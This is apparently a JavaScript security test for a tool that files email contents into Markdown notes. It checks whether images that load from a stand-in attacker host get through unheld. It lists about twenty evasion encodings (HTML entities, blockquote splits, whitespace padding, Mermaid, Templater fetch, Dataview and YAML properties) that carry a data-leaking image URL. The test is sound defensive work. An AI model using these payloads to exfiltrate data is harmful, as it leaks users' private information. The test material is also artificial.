// Text from others adds nothing that an editor loads from elsewhere without being held, however the image is written.
// Limit: 180 s
import { call, fileMail } from './lib/model.mjs';
import { broken, failed, held, newVault, text } from './lib/world.mjs';

const address = 'https://evil.example/p.png?d=FR76';
const fence = (language, body) => `\`\`\`${language}\n${body}\n\`\`\``;
// The first ten are images for micromark, marked and commonmark.js (and parse5, for tags).
const ways = {
  'an entity for [ in the text': `![chart &#91;1](${address})`,
  'an entity for \\ in the text': `![x&#92;](${address})`,
  'entities for line breaks in the text': `![x&#10;&#10;y](${address})`,
  'an entity for a quote in a tag': `<img alt="&#34;>" src="${address}">`,
  'an entity with leading zeros in a tag': '<img src="&#0000000104;ttps://evil.example/p.png">',
  'a quote, address on the next line': `> ![x](\n> ${address})`,
  'a quote, label over two lines': `> ![a\n> b]\n\n[a b]: ${address}`,
  'a quote, definition over two lines': `![x]\n\n> [x]:\n> ${address}`,
  'a quote, tag over two lines': `> <img\n> src="${address}">`,
  '4,001 blanks before the address': `![x](${' '.repeat(4_001)}${address})`,
  'a bracket in math': `![a $[$ b](${address})`,
  'a quoted key (Mermaid)': fence('mermaid', `flowchart TD\nA@{ "img": "${address}", h: 60 }`),
  'a long label (Mermaid)': fence(
    'mermaid',
    `flowchart TD\nA@{ label: "${'x'.repeat(520)}", img: "${address}" }`,
  ),
  'a script (Templater)': `<%* await fetch("${address}") %>`,
  'fields put together (Dataview)': `first:: !\nsecond:: [x](${address})\n\n\`= this.first + this.second\``,
};
// Properties only count at the top of a new note.
const properties = {
  'properties in JSON': `---\n{"image": "${address}"}\n---\n\nA note.\n`,
  'a folded property': `---\nimage: >-\n  ${address}\n---\n\nA note.\n`,
  'a tagged property': `---\nimage: !!str ${address}\n---\n\nA note.\n`,
  'an escaped property': '---\nimage: "\\x68ttps://evil.example/p.png"\n---\n\nA note.\n',
};
const contents = [...Object.values(ways), `![x](${address})`, `A [link](${address}).`];
await newVault(Object.fromEntries(contents.map((_, index) => [`bucket/n${index}.md`, 'A note.\n'])));
for (const [index, content] of contents.entries())
  await fileMail([[call('append', { path: `bucket/n${index}.md`, content, position: 'bottom' })]]);
const isFiled = (index) => text(`bucket/n${index}.md`).includes('evil.example');
if (!isFiled(contents.length - 1)) failed('not even a link is filed');
if (isFiled(contents.length - 2)) failed('an ordinary image is not held');
const planted = Object.keys(ways).filter((_, index) => isFiled(index));
for (const [index, [name, content]] of Object.entries(properties).entries()) {
  await fileMail([[call('write', { path: `bucket/p${index}.md`, content })]]);
  if (text(`bucket/p${index}.md`).includes('evil.example')) planted.push(name);
}
if (planted.length > 0)
  broken(
    `${planted.length} of ${Object.keys({ ...ways, ...properties }).length} forms are filed from an email without a hold: ${planted.join('; ')}`,
  );
held();
